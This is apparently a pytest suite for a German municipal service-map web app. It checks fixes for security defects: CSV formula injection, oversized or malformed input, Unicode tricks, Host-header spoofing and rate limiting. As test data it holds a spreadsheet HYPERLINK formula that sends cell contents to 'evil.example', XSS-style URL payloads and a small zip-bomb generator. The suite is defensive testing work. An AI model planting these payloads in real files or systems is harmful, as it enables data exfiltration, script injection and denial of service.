"""Issue 19, the attack run's findings on the app (the server's own are in
tests/browser/test_slow_clients.py and test_server.py): each test reproduces one defect."""
from __future__ import annotations

import csv
import io
import json
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from fake_pvog import FakePvog

from ozgmap import coverage as coverage_mod
from ozgmap import safety, services
from ozgmap.sources.dashboard import DashboardClient, DashboardError

TELGTE = "05570044"
FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Klick")', "+1+1", "-1+1", "@SUM(1)"]


def _token(store, *bereich: str) -> dict:
    _id, token = store.create_token("Test " + ",".join(bereich), list(bereich), by="test")
    return {"Authorization": f"Bearer {token}"}


def _free(store, ags: str) -> str:
    taken = {r["ozg_id"] for r in store.records(ags=ags)}
    return next(r["ozg_id"] for r in store.leistungen() if r["kommunal"]
                and r["ozg_id"] not in taken)


def _rec(ags: str, ozg_id: str, **over) -> dict:
    return {"ags": ags, "ozg_id": ozg_id, "status": "umgesetzt", **over}


def _csv_rows(resp) -> list[list[str]]:
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    return list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))


# --- defect 2: CSV formula injection ---------------------------------------------------------

@pytest.mark.parametrize("value", FORMULAS + ["\t=1+1", "\r=1+1", "-", "=", "+49 2504 1234"])
def test_csv_cell_neutralises_what_a_spreadsheet_would_run(value):
    out = safety.csv_cell(value)
    assert out == "'" + value
    assert safety.csv_cell("Bürgerbüro") == "Bürgerbüro"
    assert safety.csv_cell(-1) == -1 and safety.csv_cell(2.5) == 2.5
    assert safety.csv_cell(None) is None


def test_formulas_come_out_neutralised_in_every_csv(client, store):
    h = _token(store, TELGTE)
    o = _free(store, TELGTE)
    r = client.put("/api/umsetzungen", json=_rec(TELGTE, o, stelle=FORMULAS[0], quelle="+1+1"),
                   headers=h)
    assert r.status_code == 200, r.get_json()
    rows = _csv_rows(client.get("/daten/umsetzungen.csv"))
    header = rows[0]
    [row] = [x for x in rows if x[header.index("ags")] == TELGTE and x[header.index("ozg_id")] == o]
    assert row[header.index("stelle")] == "'" + FORMULAS[0]
    assert row[header.index("quelle")] == "'+1+1"
    near = _csv_rows(client.get(f"/api/nachbarn?ags=05515000&leistung={o}&format=csv"))
    [mine] = [x for x in near if x[0] == TELGTE]
    assert "'+1+1" in mine or "'" + FORMULAS[0] in mine, mine
    for path in ("/daten/umsetzungen.csv", f"/api/nachbarn?ags=05515000&leistung={o}&format=csv",
                 "/tabelle.csv", "/api/umsetzung?format=csv", f"/gebiet/{TELGTE}.csv",
                 "/api/luecken?ags=05515000&format=csv"):
        for cells in _csv_rows(client.get(path)):
            assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], (path, cells)
            assert not [c for c in cells if c[:1] == "-" and not _number(c)], (path, cells)
    text = client.get("/daten").get_data(as_text=True)
    assert "Formel" in text and "Apostroph" in text


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


# --- defect 3: unbounded free text -------------------------------------------------------------

@pytest.mark.parametrize("field,size", [("quelle", 201), ("stelle", 301), ("url", 2001)])
def test_free_text_over_its_limit_is_422_naming_the_field(client, store, field, size):
    value = ("https://example.org/" + "a" * size)[:size] if field == "url" else "x" * size
    r = client.put("/api/umsetzungen", json=_rec(TELGTE, _free(store, TELGTE), **{field: value}),
                   headers=_token(store, TELGTE))
    assert r.status_code == 422, r.get_json()
    assert [d["feld"] for d in r.get_json()["error"]["details"]] == [field]
    assert "Zeichen" in r.get_json()["error"]["details"][0]["meldung"]


def test_the_list_of_sources_is_capped(client, store):
    h = _token(store, TELGTE)
    free = [r["ozg_id"] for r in store.leistungen() if r["kommunal"]][:40]
    batch = [_rec(TELGTE, o, quelle=f"Quelle Nummer {n:02d}") for n, o in enumerate(free)]
    assert client.put("/api/umsetzungen", json=batch, headers=h).status_code == 200
    daten = client.get("/api/umsetzung").get_json()["quellen"]["daten"]
    assert len(daten) <= safety.MAX_SOURCES_SHOWN + 1
    page = client.get("/").get_data(as_text=True)
    assert page.count("Quelle Nummer") <= safety.MAX_SOURCES_SHOWN
    assert "weitere" in page


# --- defects 6, 7, 13: bodies and values the API must refuse -----------------------------------

@pytest.mark.parametrize("depth", [1000, 100_000, 1_000_000])
def test_deeply_nested_json_is_400(client, store, depth):
    body = "[" * depth + "]" * depth
    r = client.put("/api/umsetzungen", data=body, content_type="application/json",
                   headers=_token(store, TELGTE))
    assert r.status_code == 400, r.get_data(as_text=True)[:200]
    assert r.get_json()["error"]["message"]


def test_a_lone_surrogate_is_422_naming_the_field(client, store):
    body = json.dumps(_rec(TELGTE, _free(store, TELGTE), stelle="X")).replace('"X"', '"\\ud800"')
    r = client.put("/api/umsetzungen", data=body, content_type="application/json",
                   headers=_token(store, TELGTE))
    assert r.status_code == 422, r.get_data(as_text=True)[:300]
    assert [d["feld"] for d in r.get_json()["error"]["details"]] == ["stelle"]


@pytest.mark.parametrize("field,value", [
    ("stelle", "Bürger\x00büro"), ("stelle", {"a": [1]}), ("quelle", ["x"]), ("stelle", 12),
    ("quelle", "Beispiel\u200bdaten"), ("quelle", "ＢＥＩＳＰＩＥＬＤＡＴＥＮ"),
    ("quelle", "\u202eBeispieldaten"), ("url", 'https://"onmouseover=alert(1)//'),
    ("url", "https://example.org/<script>"), ("stelle", "Amt\u2028für")])
def test_one_validation_refuses_what_the_api_let_through(client, store, field, value):
    before = store.records()
    r = client.put("/api/umsetzungen", json=_rec(TELGTE, _free(store, TELGTE), **{field: value}),
                   headers=_token(store, TELGTE))
    assert r.status_code == 422, r.get_json()
    assert [d["feld"] for d in r.get_json()["error"]["details"]] == [field]
    assert store.records() == before


def test_text_checks_are_one_function():
    assert safety.text_problem("Bürgerbüro Telgte") is None
    assert safety.text_problem("x\x00") and safety.text_problem("x\u200b")
    assert safety.text_problem({"a": 1}) and safety.text_problem("x" * 301, 300)
    assert safety.same_name("Beispiel\u200bdaten", "Beispieldaten")
    assert safety.same_name("ＢＥＩＳＰＩＥＬＤＡＴＥＮ", "Beispieldaten")
    assert not safety.same_name("Beispieldaten 2", "Beispieldaten")
    assert safety.url_problem('https://"onmouseover=alert(1)//')
    assert safety.url_problem("javascript:alert(1)") and safety.url_problem("https:///x")
    assert safety.url_problem("https://example.org/a?b=c#d") is None


# --- defects 8, 9, 10: files the importer must refuse clearly ---------------------------------

HEADER = "ags;ozg_id;status;stelle\r\n"


def _import(runner, path):
    result = runner.invoke(args=["import", str(path)])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert "Traceback" not in result.output
    return result


def _leistungen(store, n=3) -> list[str]:
    return [r["ozg_id"] for r in store.leistungen() if r["kommunal"]][:n]


def test_a_file_mixing_utf8_and_cp1252_is_refused_naming_a_line_of_each(runner, store,
                                                                        tmp_path):
    a, b, c = _leistungen(store)
    path = tmp_path / "gemischt.csv"
    path.write_bytes(HEADER.encode() + f"{TELGTE};{a};umgesetzt;Bürgerbüro\r\n".encode("utf-8")
                     + f"{TELGTE};{b};umgesetzt;Ordnungsamt\r\n".encode()
                     + f"{TELGTE};{c};umgesetzt;Bürgerbüro\r\n".encode("cp1252"))
    before = store.records()
    result = _import(runner, path)
    assert result.exit_code == 1
    assert "gemischt.csv" in result.output and "Zeile 2" in result.output \
        and "Zeile 4" in result.output and "UTF-8" in result.output \
        and "Windows-1252" in result.output, result.output
    assert store.records() == before
    # one encoding throughout is still fine
    path.write_bytes((HEADER + f"{TELGTE};{a};umgesetzt;Bürgerbüro\r\n").encode("cp1252"))
    assert _import(runner, path).exit_code == 0
    assert store.records(ags=TELGTE, ozg_id=a)[0]["stelle"] == "Bürgerbüro"


def test_a_field_with_a_line_break_is_refused_naming_the_line(runner, store, tmp_path):
    a, b, c = _leistungen(store)
    path = tmp_path / "anfuehrung.csv"
    path.write_text(HEADER + f'{TELGTE};{a};umgesetzt;"Bürgerbüro\r\n'
                    f"{TELGTE};{b};umgesetzt;Ordnungsamt\r\n"
                    f"{TELGTE};{c};umgesetzt;Amt\r\n", encoding="utf-8")
    before = store.records()
    result = _import(runner, path)
    assert result.exit_code == 1
    assert "anfuehrung.csv, Zeile 2" in result.output and "Zeilenumbruch" in result.output, \
        result.output
    assert store.records() == before


def test_a_cell_over_131072_characters_is_a_normal_import_error(runner, store, tmp_path):
    a, b, _c = _leistungen(store)
    path = tmp_path / "lang.csv"
    path.write_text(HEADER + f"{TELGTE};{a};umgesetzt;Amt\r\n"
                    f"{TELGTE};{b};umgesetzt;{'x' * 140_000}\r\n", encoding="utf-8")
    result = _import(runner, path)
    assert result.exit_code == 1
    assert "lang.csv, Zeile 3" in result.output and "Zeichen" in result.output, result.output


def _bomb(path, size=60 * 1024 * 1024):
    """A tiny XLSX-looking archive whose one sheet unpacks to *size* bytes."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("xl/worksheets/sheet1.xml", "w") as member:
            block = b"<row/>" * (1024 * 1024 // 6)
            for _ in range(size // len(block)):
                member.write(block)
    return path


def test_an_xlsx_zip_bomb_is_refused_before_it_is_opened(runner, store, tmp_path):
    path = _bomb(tmp_path / "bombe.xlsx")
    assert path.stat().st_size < 1024 * 1024
    start = time.monotonic()
    result = _import(runner, path)
    assert result.exit_code == 1
    assert "bombe.xlsx" in result.output and "entpackt zu groß" in result.output, result.output
    assert time.monotonic() - start < 5
    with pytest.raises(safety.UnsafeArchive):
        safety.check_xlsx(path)
    safety.check_xlsx(io.BytesIO(_real_xlsx(tmp_path)))  # a normal workbook passes


def _real_xlsx(tmp_path) -> bytes:
    wb = openpyxl.Workbook()
    wb.active.append(["ags", "ozg_id", "status"])
    wb.save(tmp_path / "ok.xlsx")
    return (tmp_path / "ok.xlsx").read_bytes()


def test_a_downloaded_zip_bomb_is_refused(tmp_path, monkeypatch):
    monkeypatch.setenv("no_proxy", "127.0.0.1")
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    with FakePvog([]) as api:
        api.export_body = _bomb(tmp_path / "bombe.xlsx").read_bytes()
        with DashboardClient(api.url, interval=0, retries=0, timeout=5) as client:
            with pytest.raises(DashboardError, match="entpackt zu groß"):
                client.export("055700044044", include_above=False, include_below=False,
                              filetype="xlsx")


# --- defect 11: the Host header ----------------------------------------------------------------

BASE = "https://karte.example.de"


@pytest.fixture(scope="module")
def based(app_copy):
    return app_copy("based", OZGMAP_BASE_URL=BASE, TESTING=False).test_client()


@pytest.mark.parametrize("path", ["/ogc", "/ogc/collections/gemeinden/items?limit=1",
                                  "/einbetten", "/embed", "/daten"])
def test_with_a_base_url_every_absolute_url_uses_it(based, path):
    r = based.get(path, headers={"Host": "karte.example.de"})
    assert r.status_code == 200
    text = r.get_data(as_text=True)
    assert BASE + "/" in text
    assert "http://karte.example.de" not in text and "localhost" not in text


def test_with_a_base_url_other_hosts_are_refused(based):
    for path, kind in (("/ogc", "application/json"), ("/", "text/html"),
                       ("/ogc//collections", None)):
        r = based.get(path, headers={"Host": "evil.example"})
        assert r.status_code == 400, (path, r.status_code, r.headers.get("Location"))
        assert "evil.example" not in r.get_data(as_text=True)
        if kind:
            assert r.mimetype == kind
    r = based.get("/ogc//collections", headers={"Host": "karte.example.de"})
    assert r.status_code in (301, 308)
    assert r.headers["Location"] in (BASE + "/ogc/collections", "/ogc/collections")


def test_without_a_base_url_the_readme_says_it_is_required_for_production():
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text("utf-8")
    assert "OZGMAP_BASE_URL" in readme and "required in production" in readme


# --- defect 12: writes must not slow every read -------------------------------------------------

def test_snapshot_reloads_are_debounced_and_readers_keep_the_old_one(app_copy, monkeypatch):
    app = app_copy("debounce", OZGMAP_RELOAD_INTERVAL=1.0)
    cov, store = services(app).coverage, services(app).store
    loads = []
    original = coverage_mod.Snapshot.load
    monkeypatch.setattr(coverage_mod.Snapshot, "load",
                        classmethod(lambda cls, *a: loads.append(1) or original.__func__(cls, *a)))
    first = cov.snapshot()
    assert len(loads) == 1
    h = _token(store, TELGTE)
    client = app.test_client()
    free = [r["ozg_id"] for r in store.leistungen() if r["kommunal"]][:10]
    start = time.monotonic()
    for o in free:  # ten writes, each followed by a read, well within a second
        assert client.put("/api/umsetzungen", json=_rec(TELGTE, o), headers=h).status_code == 200
        assert client.get("/api/themenfelder").status_code == 200
    elapsed = time.monotonic() - start
    assert len(loads) <= 2 + int(elapsed), (len(loads), elapsed)  # at most one per second
    # while one reader builds the new snapshot, the others keep answering from the old one
    time.sleep(1.05)
    cov.snapshot()  # up to date now
    assert client.put("/api/umsetzungen", json=_rec(TELGTE, free[0], stelle="neu"),
                      headers=h).status_code == 200
    time.sleep(1.05)
    with cov._lock:
        t0 = time.monotonic()
        assert cov.snapshot().version < store.data_version()
        assert time.monotonic() - t0 < 0.5
    # the reload runs beside the readers: a slow one (Germany: seconds) holds up none of them
    monkeypatch.setattr(coverage_mod.Snapshot, "load", classmethod(
        lambda cls, *a: time.sleep(0.8) or original.__func__(cls, *a)))
    t0 = time.monotonic()
    assert cov.snapshot().version < store.data_version()
    for _ in range(5):
        assert client.get("/api/themenfelder").status_code == 200
    assert time.monotonic() - t0 < 0.5
    deadline = time.monotonic() + 10
    while cov.snapshot().version != store.data_version():  # and then it is there
        assert time.monotonic() < deadline
        time.sleep(0.05)
    assert first.version < store.data_version()


def test_writes_per_token_are_rate_limited_with_retry_after(app_copy):
    app = app_copy("ratelimit", OZGMAP_WRITE_BURST=3, OZGMAP_WRITE_RATE=0.5)
    store = services(app).store
    h, other = _token(store, TELGTE), _token(store, TELGTE)
    client = app.test_client()
    o = [r["ozg_id"] for r in store.leistungen() if r["kommunal"]][0]
    statuses = [client.put("/api/umsetzungen", json=_rec(TELGTE, o), headers=h).status_code
                for _ in range(5)]
    assert statuses[:3] == [200, 200, 200] and statuses[3:] == [429, 429]
    r = client.put("/api/umsetzungen", json=_rec(TELGTE, o), headers=h)
    assert r.status_code == 429 and 1 <= int(r.headers["Retry-After"]) <= 3
    assert "Anfragen" in r.get_json()["error"]["message"]
    # another token is not held up by this one
    assert client.put("/api/umsetzungen", json=_rec(TELGTE, o), headers=other).status_code == 200
